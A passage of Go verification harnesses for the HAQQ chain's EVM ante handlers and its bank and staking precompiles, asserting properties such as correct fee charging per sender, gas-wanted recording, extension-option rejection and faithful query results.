	zz.Assert(err == nil && verified, "a transaction signed for this chain passes the signature verification")
	zz.Assert(msg.From == vSenders[0].Hex(), "after the signature verification From is the recovered signer, whatever the field held before")
	zz.Reach("end")
}
