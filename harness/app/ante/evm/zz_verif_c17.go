package evm

// Harness for property C17, the recording side: the base fee of block h+1 is computed from block h's gas figure
// max(gasWanted x multiplier, gasUsed). gasWanted is accumulated by the GasWantedDecorator of the ante handler - but only
// while it considers the fee market enabled. Its gate must be the same as the one CalculateBaseFee uses
// (Params.IsBaseFeeEnabled), otherwise a block that IS priced by EIP-1559 is recorded without its declared gas.

import (
	sdk "github.com/cosmos/cosmos-sdk/types"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	paramstypes "github.com/cosmos/cosmos-sdk/x/params/types"

	feemarketkeeper "github.com/haqq-network/haqq/x/feemarket/keeper"
	feemarkettypes "github.com/haqq-network/haqq/x/feemarket/types"
	zz "github.com/haqq-network/haqq/zzverif"
)

type c17FeeTx struct {
	vTx
	gas uint64
}

func (t c17FeeTx) GetGas() uint64          { return t.gas }
func (t c17FeeTx) GetFee() sdk.Coins       { return nil }
func (t c17FeeTx) FeePayer() sdk.AccAddress   { return nil }
func (t c17FeeTx) FeeGranter() sdk.AccAddress { return nil }

// VerifC17_GasWantedRecorded: the declared gas of a transaction is added to the block's gas-wanted counter exactly in the
// blocks whose successor's base fee CalculateBaseFee derives from that counter.
func VerifC17_GasWantedRecorded() {
	env := zz.NewEnv([]string{"feemarket"}, []string{"transient_feemarket"})
	k := feemarketkeeper.NewKeeper(zz.Codec(), authtypes.NewModuleAddress("gov"), env.Key("feemarket"), env.Key("transient_feemarket"), paramstypes.Subspace{})
	p := feemarkettypes.DefaultParams()
	p.NoBaseFee = zz.AnyBool("noBaseFee")
	p.EnableHeight = zz.AnyInt64In("enableHeight", 0, int64(1)<<40)
	if err := k.SetParams(env.Ctx, p); err != nil {
		panic(err)
	}
	height := zz.AnyInt64In("height", 1, int64(1)<<40)
	limit := zz.AnyUint64In("blockGasLimit", 1, 1<<62)
	ctx := env.Ctx.WithBlockHeight(height).WithBlockGasMeter(sdk.NewGasMeter(limit))
	before := zz.AnyUint64In("gasWantedSoFar", 0, 1<<62)
	k.SetTransientBlockGasWanted(ctx, before)
	gas := zz.AnyUint64In("txGas", 0, 1<<62)
	dec := NewGasWantedDecorator(vEVMKeeper{}, k)
	called := false
	_, err := dec.AnteHandle(ctx, c17FeeTx{gas: gas}, false, vNext(&called))
	if err != nil {
		zz.Assert(gas > limit, "only a transaction above the block gas limit is refused here")
		zz.Reach("refused")
		zz.Reach("end")
		return
	}
	zz.Assert(called, "the transaction is passed on")
	after := k.GetTransientGasWanted(ctx)
	zz.ObserveUint64("gasWantedAfter", after)
	if p.IsBaseFeeEnabled(height) {
		// CalculateBaseFee treats this block as an EIP-1559 block: its declared gas must be in the figure
		zz.Assert(after == before+gas, "in every block priced by EIP-1559 the declared gas is added to the block's gas-wanted counter")
		zz.Reach("recorded")
	} else {
		zz.Assert(after == before, "outside EIP-1559 blocks the counter is left alone")
		zz.Reach("not-recorded")
	}
	zz.Reach("end")
}
