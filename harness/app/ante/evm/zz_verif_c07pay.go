package evm

// Harness for property C07, who pays: the eth gas-consume decorator charges, for every Ethereum message of the transaction,
// that message's own sender the up-front fee gasLimit x effective gas price (gas price, or min(fee cap, base fee + tip cap)) - the amount the later
// refund is computed against. Messages of one Cosmos transaction may come from different senders.

import (
	"math/big"

	sdk "github.com/cosmos/cosmos-sdk/types"
	"github.com/ethereum/go-ethereum/common"

	zz "github.com/haqq-network/haqq/zzverif"
)

type c07Charge struct {
	from common.Address
	amt  *big.Int
}

var c07Charges []c07Charge

type c07PayEVM struct{ vEVMKeeper }

func (k c07PayEVM) DeductTxCostsFromUserBalance(ctx sdk.Context, fees sdk.Coins, from common.Address) error {
	c07Charges = append(c07Charges, c07Charge{from: from, amt: fees.AmountOf("aISLM").BigInt()})
	return nil
}

func VerifC07_EachSenderPaysItsOwnFee() {
	n := 1 + zz.Choose("messages", zz.ParamInt("msgs", 2))
	baseFee := zz.AnyBigAmount("baseFee", 64)
	var msgs []sdk.Msg
	var senders []common.Address
	var want []*big.Int
	for i := 0; i < n; i++ {
		s := vSenders[zz.Choose("m"+string(rune('0'+i))+".sender", 2)]
		m, _, gas, price, tip, legacy := vEthMsg("m"+string(rune('0'+i)), s)
		msgs = append(msgs, m)
		senders = append(senders, s)
		eff := price // legacy: the gas price; dynamic fee: min(fee cap, base fee + tip cap)
		if !legacy {
			if bt := new(big.Int).Add(baseFee, tip); bt.Cmp(price) < 0 {
				eff = bt
			}
		}
		want = append(want, new(big.Int).Mul(eff, new(big.Int).SetUint64(gas)))
	}
	blockLimit := zz.AnyUint64In("blockGasLimit", 1, 1<<62)
	ctx := sdk.Context{}.WithBlockHeight(10).WithBlockGasMeter(sdk.NewGasMeter(blockLimit)).WithEventManager(sdk.NewEventManager())
	c07Charges = nil
	dec := NewEthGasConsumeDecorator(c01Bank{}, c01Distr{}, c07PayEVM{vEVMKeeper{baseFee: baseFee}}, c01Staking{}, 0)
	called := false
	_, err := dec.AnteHandle(ctx, vTx{msgs: msgs}, false, vNext(&called))
	if err != nil {
		zz.Reach("rejected")
		return
	}
	// accepted: what was charged, per sender, is the sum of the fees of that sender's own messages
	for _, s := range vSenders {
		charged, owed := new(big.Int), new(big.Int)
		for _, c := range c07Charges {
			if c.from == s {
				charged.Add(charged, c.amt)
			}
		}
		for i := range msgs {
			if senders[i] == s {
				owed.Add(owed, want[i])
			}
		}
		zz.Assert(zz.BigEq(charged, owed), "every sender is charged exactly gasLimit x effective price of its own messages, nobody else's")
	}
	if n > 1 && senders[0] != senders[1] {
		zz.Reach("two-senders")
	}
	zz.Reach("end")
}
