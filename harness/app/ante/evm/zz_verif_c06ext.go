package evm

// Harness for property C06, extension options on the Ethereum route: the router (app/ante) chooses the route from the first
// option only; everything behind it is this route's responsibility. A transaction that carries anything besides the single
// ExtensionOptionsEthereumTx - unknown or known, at any later position - must not pass the route's basic validation.

import (
	"math/big"

	codectypes "github.com/cosmos/cosmos-sdk/codec/types"
	sdk "github.com/cosmos/cosmos-sdk/types"
	txtypes "github.com/cosmos/cosmos-sdk/types/tx"

	evmtypes "github.com/haqq-network/haqq/x/evm/types"
	zz "github.com/haqq-network/haqq/zzverif"
)

//verif:override (*github.com/cosmos/cosmos-sdk/types/tx.Tx).GetMsgs -> c06ProtoMsgs

var c06Msgs []sdk.Msg

func c06ProtoMsgs(t *txtypes.Tx) []sdk.Msg { return c06Msgs } // the messages behind Body.Messages (Any unpacking is codec machinery)

type c06ProtoTx struct{ p *txtypes.Tx }

func (t c06ProtoTx) GetMsgs() []sdk.Msg      { return c06Msgs }
func (t c06ProtoTx) ValidateBasic() error    { return nil }
func (t c06ProtoTx) GetProtoTx() *txtypes.Tx { return t.p }

func VerifC06_EthExtensionOptions() {
	urls := []string{"/ethermint.evm.v1.ExtensionOptionsEthereumTx", "/ethermint.types.v1.ExtensionOptionDynamicFeeTx", "/ethermint.types.v1.ExtensionOptionsWeb3Tx", "/some.unknown.ExtensionOption"}
	n := 1 + zz.Choose("options", zz.ParamInt("max", 3))
	var opts []*codectypes.Any
	for i := 0; i < n; i++ {
		u := 0
		if i > 0 { // the first option is the Ethereum one (it selects this route); the others are arbitrary
			u = zz.Choose("opt"+string(rune('0'+i)), len(urls))
		}
		if u == 0 {
			a, err := codectypes.NewAnyWithValue(&evmtypes.ExtensionOptionsEthereumTx{})
			if err != nil {
				panic(err)
			}
			opts = append(opts, a)
		} else {
			opts = append(opts, &codectypes.Any{TypeUrl: urls[u]})
		}
	}
	m, _, gas, price, _, _ := vEthMsg("m0", vSenders[0])
	m.From = ""
	c06Msgs = []sdk.Msg{m}
	fee := sdk.Coins{}.Add(sdk.Coin{Denom: "aISLM", Amount: sdk.NewIntFromBigInt(new(big.Int).Mul(price, new(big.Int).SetUint64(gas)))})
	p := &txtypes.Tx{
		Body:     &txtypes.TxBody{ExtensionOptions: opts},
		AuthInfo: &txtypes.AuthInfo{Fee: &txtypes.Fee{Amount: fee, GasLimit: gas}},
	}
	called := false
	_, err := NewEthValidateBasicDecorator(vEVMKeeper{baseFee: big.NewInt(0)}).AnteHandle(sdk.Context{}, c06ProtoTx{p: p}, false, vNext(&called))
	if n == 1 {
		zz.Assert(err == nil && called, "an Ethereum transaction with exactly its own extension option passes the basic validation")
		zz.Reach("single")
	} else {
		zz.Assert(err != nil && !called, "an Ethereum transaction carrying any further extension option is rejected, whatever it is and wherever it sits")
		zz.Reach("extra")
	}
	zz.Reach("end")
}
