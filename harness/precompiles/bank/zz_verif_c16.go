package bank

// Harness for property C16, bank precompile: for every denomination that has an ERC-20 address the reported balances and
// supplies are those of the bank module - nothing dropped, nothing invented, in the bank's order.

import (
	"errors"
	"math/big"

	sdkmath "cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	bankkeeper "github.com/cosmos/cosmos-sdk/x/bank/keeper"
	"github.com/ethereum/go-ethereum/accounts/abi"
	"github.com/ethereum/go-ethereum/common"

	erc20keeper "github.com/haqq-network/haqq/x/erc20/keeper"
	erc20types "github.com/haqq-network/haqq/x/erc20/types"
	zz "github.com/haqq-network/haqq/zzverif"
)

//verif:override (github.com/haqq-network/haqq/x/erc20/keeper.Keeper).GetCoinAddress -> c16GetCoinAddress
//verif:override (github.com/haqq-network/haqq/x/erc20/keeper.Keeper).GetERC20Map -> c16GetERC20Map
//verif:override (github.com/haqq-network/haqq/x/erc20/keeper.Keeper).GetTokenPair -> c16GetTokenPair

// the denomination universe, in the byte order the bank module iterates in; which of them has an ERC-20 address is symbolic
var c16Denoms = []string{"aISLM", "foo", "ibc/ABC", "xmpl"}
var c16Addr = map[string]common.Address{}

func c16AddrOf(i int) common.Address {
	return common.BytesToAddress([]byte{0xE0, byte(i + 1)})
}

func c16GetCoinAddress(k erc20keeper.Keeper, ctx sdk.Context, denom string) (common.Address, error) {
	a, ok := c16Addr[denom]
	if !ok {
		return common.Address{}, errors.New("no ERC-20 address for " + denom)
	}
	return a, nil
}
func c16GetERC20Map(k erc20keeper.Keeper, ctx sdk.Context, erc20 common.Address) []byte {
	for d, a := range c16Addr {
		if a == erc20 {
			return []byte("pair:" + d)
		}
	}
	return nil
}
func c16GetTokenPair(k erc20keeper.Keeper, ctx sdk.Context, id []byte) (erc20types.TokenPair, bool) {
	if len(id) < 5 {
		return erc20types.TokenPair{}, false
	}
	d := string(id[5:])
	return erc20types.TokenPair{Erc20Address: c16Addr[d].Hex(), Denom: d, Enabled: true}, true
}

type c16Bank struct {
	bankkeeper.Keeper // only the three methods below are used
	bal               map[string]sdkmath.Int
	supply            map[string]sdkmath.Int
}

func (b c16Bank) IterateAccountBalances(ctx sdk.Context, addr sdk.AccAddress, cb func(coin sdk.Coin) (stop bool)) {
	for _, d := range c16Denoms {
		if v := b.bal[d]; v.IsPositive() {
			if cb(sdk.NewCoin(d, v)) {
				return
			}
		}
	}
}
func (b c16Bank) IterateTotalSupply(ctx sdk.Context, cb func(coin sdk.Coin) bool) {
	for _, d := range c16Denoms {
		if v := b.supply[d]; v.IsPositive() {
			if cb(sdk.NewCoin(d, v)) {
				return
			}
		}
	}
}
func (b c16Bank) GetSupply(ctx sdk.Context, denom string) sdk.Coin {
	v, ok := b.supply[denom]
	if !ok {
		v = sdkmath.ZeroInt()
	}
	return sdk.NewCoin(denom, v)
}

// VerifC16_Bank: balances(account), totalSupply() and supplyOf(token) for an arbitrary registry and arbitrary amounts.
func VerifC16_Bank() {
	env := zz.NewEnv([]string{"bank"}, nil)
	c16Addr = map[string]common.Address{}
	b := c16Bank{bal: map[string]sdkmath.Int{}, supply: map[string]sdkmath.Int{}}
	for i, d := range c16Denoms {
		if zz.AnyBool("registered." + d) {
			c16Addr[d] = c16AddrOf(i)
		}
		b.bal[d] = zz.AnyAmount("balance."+d, 128)
		b.supply[d] = zz.AnyAmount("supply."+d, 128)
	}
	p := Precompile{bankKeeper: b}
	method := &abi.Method{Name: "m"}
	account := common.HexToAddress("0x1000000000000000000000000000000000000001")

	check := func(what string, src map[string]sdkmath.Int) {
		zz.Assert(len(zz.LastPacked) == 1, what+": one output value")
		out := zz.LastPacked[0].([]Balance)
		j := 0
		for _, d := range c16Denoms {
			a, reg := c16Addr[d]
			if !reg || !src[d].IsPositive() {
				continue
			}
			zz.Assert(j < len(out), what+" reports every denomination that has an ERC-20 address")
			if j < len(out) {
				zz.Assert(out[j].ContractAddress == a && out[j].Amount.Cmp(src[d].BigInt()) == 0, what+" reports the bank module's amount under the token's address")
			}
			j++
		}
		zz.Assert(j == len(out), what+" reports nothing else")
	}

	_, err := p.Balances(env.Ctx, nil, method, []interface{}{account})
	zz.Assert(err == nil, "balances() succeeds")
	check("balances()", b.bal)

	_, err = p.TotalSupply(env.Ctx, nil, method, nil)
	zz.Assert(err == nil, "totalSupply() succeeds")
	check("totalSupply()", b.supply)

	which := zz.Choose("token", len(c16Denoms)+1)
	token := common.HexToAddress("0x9999999999999999999999999999999999999999")
	want := big.NewInt(0)
	if which < len(c16Denoms) {
		if a, ok := c16Addr[c16Denoms[which]]; ok {
			token = a
			want = b.supply[c16Denoms[which]].BigInt()
		}
	}
	_, err = p.SupplyOf(env.Ctx, nil, method, []interface{}{token})
	zz.Assert(err == nil, "supplyOf() succeeds")
	zz.Assert(len(zz.LastPacked) == 1 && zz.LastPacked[0].(*big.Int).Cmp(want) == 0, "supplyOf(token) is the bank supply of the token's denomination (0 for unknown tokens)")
	zz.Reach("end")
}
