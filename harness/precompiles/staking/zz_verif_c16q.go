package staking

// Harness for property C16, read-only staking methods: delegation / unbondingDelegation / validator report exactly what the
// native queries answer. The SDK query server is replaced by one that returns an arbitrary answer; the request built from
// the call's arguments and the conversion of the answer into the method's output are the real code. ABI byte encoding is
// outside (outputs are compared as Go values handed to Pack).

import (
	"context"
	"math/big"
	"time"

	sdkmath "cosmossdk.io/math"
	codectypes "github.com/cosmos/cosmos-sdk/codec/types"
	sdk "github.com/cosmos/cosmos-sdk/types"
	sdkstakingkeeper "github.com/cosmos/cosmos-sdk/x/staking/keeper"
	stakingtypes "github.com/cosmos/cosmos-sdk/x/staking/types"
	"github.com/ethereum/go-ethereum/accounts/abi"
	"github.com/ethereum/go-ethereum/common"

	cmn "github.com/haqq-network/haqq/precompiles/common"
	stakingkeeper "github.com/haqq-network/haqq/x/staking/keeper"
	zz "github.com/haqq-network/haqq/zzverif"
)

//verif:override (github.com/cosmos/cosmos-sdk/x/staking/keeper.Querier).Delegation -> c16Delegation except=VerifC16_DelegationAfterSlash
//verif:override (github.com/cosmos/cosmos-sdk/x/staking/keeper.Keeper).GetDelegation -> c16GetDelegation
//verif:override (github.com/cosmos/cosmos-sdk/x/staking/keeper.Keeper).GetValidator -> c16GetValidator
//verif:override (github.com/cosmos/cosmos-sdk/x/staking/keeper.Querier).UnbondingDelegation -> c16Unbonding
//verif:override (github.com/cosmos/cosmos-sdk/x/staking/keeper.Querier).Validator -> c16Validator
//verif:override github.com/haqq-network/haqq/precompiles/staking.FormatConsensusPubkey -> c16FormatPubkey

var c16q struct {
	delReq  *stakingtypes.QueryDelegationRequest
	delRes  *stakingtypes.QueryDelegationResponse
	ubdReq  *stakingtypes.QueryUnbondingDelegationRequest
	ubdRes  *stakingtypes.QueryUnbondingDelegationResponse
	valReq  *stakingtypes.QueryValidatorRequest
	valRes  *stakingtypes.QueryValidatorResponse
}

func c16Delegation(q sdkstakingkeeper.Querier, c context.Context, req *stakingtypes.QueryDelegationRequest) (*stakingtypes.QueryDelegationResponse, error) {
	c16q.delReq = req
	return c16q.delRes, nil
}
func c16Unbonding(q sdkstakingkeeper.Querier, c context.Context, req *stakingtypes.QueryUnbondingDelegationRequest) (*stakingtypes.QueryUnbondingDelegationResponse, error) {
	c16q.ubdReq = req
	return c16q.ubdRes, nil
}
func c16Validator(q sdkstakingkeeper.Querier, c context.Context, req *stakingtypes.QueryValidatorRequest) (*stakingtypes.QueryValidatorResponse, error) {
	c16q.valReq = req
	return c16q.valRes, nil
}
func c16FormatPubkey(pk *codectypes.Any) string { return "pubkey" }

func VerifC16_StakingQueries() {
	c16s.found, c16s.tokens, c16s.total, c16s.shares = false, sdkmath.ZeroInt(), sdk.OneDec(), sdk.ZeroDec()
	env := zz.NewEnv([]string{"staking"}, nil)
	ctx := env.Ctx.WithBlockTime(time.Unix(1700000000, 0))
	p := Precompile{Precompile: cmn.Precompile{}, stakingKeeper: stakingkeeper.Keeper{Keeper: &sdkstakingkeeper.Keeper{}}}
	del := common.HexToAddress("0x1000000000000000000000000000000000000001")
	delBech := sdk.AccAddress(del.Bytes()).String()
	m := &abi.Method{Name: "q"}
	switch zz.Choose("query", 3) {
	case 0:
		shares := zz.AnyDecRaw("shares", "0", "1000000000000000000000000000000000000000000000")
		bal := zz.AnyAmount("balance", 128)
		c16q.delRes = &stakingtypes.QueryDelegationResponse{DelegationResponse: &stakingtypes.DelegationResponse{
			Delegation: stakingtypes.Delegation{DelegatorAddress: delBech, ValidatorAddress: c04Val, Shares: shares}, Balance: sdk.NewCoin("aISLM", bal)}}
		_, err := p.Delegation(ctx, nil, m, []interface{}{del, c04Val})
		zz.Assert(err == nil, "the query succeeds when the native query does")
		zz.Assert(c16q.delReq.DelegatorAddr == delBech && c16q.delReq.ValidatorAddr == c04Val, "the native query is asked for exactly the delegator and validator of the call")
		zz.Assert(len(zz.LastPacked) == 2, "two output values")
		zz.Assert(zz.LastPacked[0].(*big.Int).Cmp(shares.BigInt()) == 0, "shares are those of the native answer")
		c := zz.LastPacked[1].(cmn.Coin)
		zz.Assert(c.Denom == "aISLM" && c.Amount.Cmp(bal.BigInt()) == 0, "balance is that of the native answer")
		zz.Reach("delegation")
	case 1:
		n := zz.ParamInt("entries", 2)
		var entries []stakingtypes.UnbondingDelegationEntry
		for i := 0; i < n; i++ {
			t := "e" + string(rune('0'+i))
			entries = append(entries, stakingtypes.UnbondingDelegationEntry{CreationHeight: zz.AnyInt64In(t+".height", 0, 1<<50), CompletionTime: time.Unix(zz.AnyInt64In(t+".time", 0, 1<<40), 0),
				InitialBalance: zz.AnyAmount(t+".initial", 128), Balance: zz.AnyAmount(t+".balance", 128), UnbondingId: zz.AnyUint64(t + ".id"), UnbondingOnHoldRefCount: zz.AnyInt64In(t+".hold", 0, 1<<30)})
		}
		c16q.ubdRes = &stakingtypes.QueryUnbondingDelegationResponse{Unbond: stakingtypes.UnbondingDelegation{DelegatorAddress: delBech, ValidatorAddress: c04Val, Entries: entries}}
		_, err := p.UnbondingDelegation(ctx, nil, m, []interface{}{del, c04Val})
		zz.Assert(err == nil, "the query succeeds when the native query does")
		zz.Assert(c16q.ubdReq.DelegatorAddr == delBech && c16q.ubdReq.ValidatorAddr == c04Val, "the native query is asked for exactly the delegator and validator of the call")
		out := zz.LastPacked[0].(UnbondingDelegationResponse)
		zz.Assert(out.DelegatorAddress == delBech && out.ValidatorAddress == c04Val && len(out.Entries) == n, "addresses and number of entries are those of the native answer")
		for i := 0; i < n && i < len(out.Entries); i++ {
			e, o := entries[i], out.Entries[i]
			zz.Assert(o.CreationHeight == e.CreationHeight && o.CompletionTime == e.CompletionTime.Unix() && o.UnbondingId == e.UnbondingId && o.UnbondingOnHoldRefCount == e.UnbondingOnHoldRefCount, "entry heights, times and ids are those of the native answer")
			zz.Assert(o.InitialBalance.Cmp(e.InitialBalance.BigInt()) == 0 && o.Balance.Cmp(e.Balance.BigInt()) == 0, "entry balances are those of the native answer, in order")
		}
		zz.Reach("unbonding")
	default:
		tokens := zz.AnyAmount("tokens", 128)
		dshares := zz.AnyDecRaw("delegatorShares", "0", "1000000000000000000000000000000000000000000000")
		rate := zz.AnyDecRaw("commission", "0", "1000000000000000000")
		minSelf := zz.AnyAmount("minSelfDelegation", 128)
		jailed := zz.AnyBool("jailed")
		status := stakingtypes.BondStatus(zz.Choose("status", 4))
		uh, ut := zz.AnyInt64In("unbondingHeight", 0, 1<<50), zz.AnyInt64In("unbondingTime", 0, 1<<40)
		c16q.valRes = &stakingtypes.QueryValidatorResponse{Validator: stakingtypes.Validator{OperatorAddress: c04Val, Jailed: jailed, Status: status, Tokens: tokens, DelegatorShares: dshares,
			Description: stakingtypes.Description{Details: "details"}, UnbondingHeight: uh, UnbondingTime: time.Unix(ut, 0),
			Commission: stakingtypes.Commission{CommissionRates: stakingtypes.CommissionRates{Rate: rate}}, MinSelfDelegation: minSelf}}
		_, err := p.Validator(ctx, m, nil, []interface{}{c04Val})
		zz.Assert(err == nil, "the query succeeds when the native query does")
		zz.Assert(c16q.valReq.ValidatorAddr == c04Val, "the native query is asked for exactly the validator of the call")
		v := zz.LastPacked[0].(ValidatorInfo)
		zz.Assert(v.OperatorAddress == c04Val && v.Jailed == jailed && int(v.Status) == int(status) && v.Description == "details", "operator, jailed flag, status and description are those of the native answer")
		zz.Assert(v.Tokens.Cmp(tokens.BigInt()) == 0 && v.DelegatorShares.Cmp(dshares.BigInt()) == 0 && v.Commission.Cmp(rate.BigInt()) == 0 && v.MinSelfDelegation.Cmp(minSelf.BigInt()) == 0, "tokens, shares, commission rate and minimum self delegation are those of the native answer")
		zz.Assert(v.UnbondingHeight == uh && v.UnbondingTime == ut, "unbonding height and time are those of the native answer")
		zz.Reach("validator")
	}
	zz.Reach("end")
}

var _ = sdkmath.ZeroInt


// the staking keeper's state behind the native Query/Delegation: one delegation, its validator (possibly slashed: tokens
// below delegator shares)
var c16s struct {
	found  bool
	shares sdk.Dec
	tokens sdkmath.Int
	total  sdk.Dec
}

func c16GetDelegation(k sdkstakingkeeper.Keeper, ctx sdk.Context, delAddr sdk.AccAddress, valAddr sdk.ValAddress) (stakingtypes.Delegation, bool) {
	if !c16s.found {
		return stakingtypes.Delegation{}, false
	}
	return stakingtypes.Delegation{DelegatorAddress: delAddr.String(), ValidatorAddress: valAddr.String(), Shares: c16s.shares}, true
}
func c16GetValidator(k sdkstakingkeeper.Keeper, ctx sdk.Context, addr sdk.ValAddress) (stakingtypes.Validator, bool) {
	return stakingtypes.Validator{OperatorAddress: addr.String(), Tokens: c16s.tokens, DelegatorShares: c16s.total}, true
}

// VerifC16_DelegationAfterSlash: the delegation query of the precompile against the real native Query/Delegation over the
// same keeper state, for validators that were slashed (a share is worth a fraction of a token, so the token value of a
// delegation is not integral): both report the same shares and the same balance.
func VerifC16_DelegationAfterSlash() {
	env := zz.NewEnv([]string{"staking"}, nil)
	ctx := env.Ctx.WithBlockTime(time.Unix(1700000000, 0))
	p := Precompile{Precompile: cmn.Precompile{}, stakingKeeper: stakingkeeper.Keeper{Keeper: &sdkstakingkeeper.Keeper{}}}
	del := common.HexToAddress("0x1000000000000000000000000000000000000001")
	delBech := sdk.AccAddress(del.Bytes()).String()
	// (tokens, total shares, delegation shares x 10): exact value; fraction below and above one half
	w := [][3]int64{{20, 20, 30}, {19, 20, 10}, {19, 20, 14}, {19, 20, 19}, {95, 100, 15}}[zz.Choose("state", 5)]
	c16s.found = zz.AnyBool("delegationExists")
	c16s.tokens, c16s.total, c16s.shares = sdkmath.NewInt(w[0]), sdk.NewDec(w[1]), sdk.NewDecWithPrec(w[2], 1)
	native, nerr := sdkstakingkeeper.Querier{Keeper: p.stakingKeeper.Keeper}.Delegation(sdk.WrapSDKContext(ctx), &stakingtypes.QueryDelegationRequest{DelegatorAddr: delBech, ValidatorAddr: c04Val})
	_, err := p.Delegation(ctx, nil, &abi.Method{Name: "q"}, []interface{}{del, c04Val})
	zz.Assert(err == nil, "the precompile query succeeds (a missing delegation answers zero)")
	if err != nil {
		return
	}
	shares, bal := zz.LastPacked[0].(*big.Int), zz.LastPacked[1].(cmn.Coin)
	if !c16s.found {
		zz.Assert(nerr != nil && shares.Sign() == 0 && bal.Amount.Sign() == 0, "no delegation: the native query reports not found, the precompile zero")
		zz.Reach("?none")
	} else {
		zz.Assert(nerr == nil, "the native query succeeds")
		zz.Assert(shares.Cmp(native.DelegationResponse.Delegation.Shares.BigInt()) == 0, "the precompile reports the shares of the native answer")
		zz.Assert(bal.Amount.Cmp(native.DelegationResponse.Balance.Amount.BigInt()) == 0, "the precompile reports the balance of the native answer, also when a share is worth a fraction of a token")
	}
	zz.Reach("end")
}
