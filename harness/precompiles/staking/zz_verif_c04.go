package staking

// Harnesses over the staking precompile's transaction methods and allowance bookkeeping:
// C04 (acts only for signer or caller, within grants), C16 (hands the module exactly the native message),
// C02 (mirrors the Cosmos-side debit into the StateDB).
//
// The SDK authz keeper, the staking message server, event emission and ABI packing are replaced by recorders / a grant
// table (dependency code); identity checks, grant checks, the allowance arithmetic (incl. the SDK's own
// StakeAuthorization.Accept) and the mirroring are the real code.

import (
	"strings"
	"errors"
	"math/big"
	"time"

	sdkmath "cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	"github.com/cosmos/cosmos-sdk/x/authz"
	authzkeeper "github.com/cosmos/cosmos-sdk/x/authz/keeper"
	sdkstakingkeeper "github.com/cosmos/cosmos-sdk/x/staking/keeper"
	stakingtypes "github.com/cosmos/cosmos-sdk/x/staking/types"
	"github.com/ethereum/go-ethereum/accounts/abi"
	"github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/core/vm"
	"golang.org/x/net/context"

	"github.com/haqq-network/haqq/precompiles/authorization"
	cmn "github.com/haqq-network/haqq/precompiles/common"
	"github.com/haqq-network/haqq/x/evm/statedb"
	stakingkeeper "github.com/haqq-network/haqq/x/staking/keeper"
	zz "github.com/haqq-network/haqq/zzverif"
)

//verif:override (github.com/cosmos/cosmos-sdk/x/authz/keeper.Keeper).GetAuthorization -> c04GetAuthorization
//verif:override (github.com/cosmos/cosmos-sdk/x/authz/keeper.Keeper).SaveGrant -> c04SaveGrant
//verif:override (github.com/cosmos/cosmos-sdk/x/authz/keeper.Keeper).DeleteGrant -> c04DeleteGrant
//verif:override github.com/haqq-network/haqq/x/staking/keeper.NewMsgServerImpl -> c04NewMsgServer except=VerifC08_PrecompileDelegate,VerifC08_PrecompileCreateValidator
//verif:override (github.com/cosmos/cosmos-sdk/x/staking/keeper.Keeper).BondDenom -> c04BondDenom
//verif:override (github.com/cosmos/cosmos-sdk/x/staking/keeper.Keeper).IterateValidators -> c04IterateValidators
//verif:override (github.com/haqq-network/haqq/precompiles/staking.Precompile).EmitApprovalEvent -> c04EmitApproval
//verif:override (github.com/haqq-network/haqq/precompiles/staking.Precompile).EmitAllowanceChangeEvent -> c04EmitAllowanceChange
//verif:override (github.com/haqq-network/haqq/precompiles/staking.Precompile).EmitDelegateEvent -> c04EmitDelegate
//verif:override (github.com/haqq-network/haqq/precompiles/staking.Precompile).EmitUnbondEvent -> c04EmitUnbond
//verif:override github.com/haqq-network/haqq/precompiles/authorization.EmitRevocationEvent -> c04EmitRevocation
//verif:override (github.com/haqq-network/haqq/precompiles/staking.Precompile).EmitRedelegateEvent -> c04EmitRedelegate
//verif:override (github.com/haqq-network/haqq/precompiles/staking.Precompile).EmitCancelUnbondingDelegationEvent -> c04EmitCancel

type c04Grant struct {
	auth authz.Authorization
	exp  *time.Time
}

var c04 struct {
	grants  map[string]*c04Grant
	msgs    []sdk.Msg // what reached the staking module's own message server
	srvFail bool

	// journal mode (VerifC04_RunAtomic): the Cosmos-side state above lives "in the context's store". A version counter is
	// kept in the real KV store of the context; every write appends a journal entry and bumps the counter, every read first
	// rebuilds grants / msgs from base + journal[:counter visible in that context]. A cached context that is discarded
	// therefore takes its writes with it, exactly like store contents.
	env     *zz.Env
	jmode   bool
	base    map[string]*c04Grant
	journal []c04Entry
	oogAt   int // index of the Cosmos-side write at which the gas meter runs out (-1: never)
	writes  int
	run     struct {
		ctx    sdk.Context
		db     *statedb.StateDB
		method *abi.Method
		args   []interface{}
	}
}

type c04Entry struct {
	kind int // 0 save grant, 1 delete grant, 2 message reached the staking module
	key  string
	g    *c04Grant
	m    sdk.Msg
}

var c04VersionKey = []byte("c04.version")

func c04Version(ctx sdk.Context) int {
	b := ctx.KVStore(c04.env.Key("staking")).Get(c04VersionKey)
	if len(b) == 0 {
		return 0
	}
	return int(b[0])
}

// c04Sync rebuilds the Cosmos-side view visible in ctx (journal mode only).
func c04Sync(ctx sdk.Context) {
	if !c04.jmode {
		return
	}
	c04.grants = map[string]*c04Grant{}
	for k, g := range c04.base {
		c04.grants[k] = g
	}
	c04.msgs = nil
	for _, e := range c04.journal[:c04Version(ctx)] {
		switch e.kind {
		case 0:
			c04.grants[e.key] = e.g
		case 1:
			delete(c04.grants, e.key)
		default:
			c04.msgs = append(c04.msgs, e.m)
		}
	}
}

// c04Write performs one Cosmos-side write in ctx; it is also the point where the SDK gas meter may run out.
func c04Write(ctx sdk.Context, e c04Entry) {
	if c04.jmode {
		if c04.writes == c04.oogAt {
			c04.writes++
			panic(sdk.ErrorOutOfGas{Descriptor: "harness: gas ran out at a Cosmos-side write"})
		}
		c04.writes++
		n := c04Version(ctx)
		c04.journal = append(c04.journal[:n], e)
		ctx.KVStore(c04.env.Key("staking")).Set(c04VersionKey, []byte{byte(n + 1)})
		return
	}
	switch e.kind {
	case 0:
		c04.grants[e.key] = e.g
	case 1:
		delete(c04.grants, e.key)
	default:
		c04.msgs = append(c04.msgs, e.m)
	}
}

func c04Key(grantee, granter sdk.AccAddress, url string) string {
	return grantee.String() + "|" + granter.String() + "|" + url
}

func c04GetAuthorization(k authzkeeper.Keeper, ctx sdk.Context, grantee, granter sdk.AccAddress, msgType string) (authz.Authorization, *time.Time) {
	c04Sync(ctx)
	g, ok := c04.grants[c04Key(grantee, granter, msgType)]
	if !ok {
		return nil, nil
	}
	return g.auth, g.exp
}
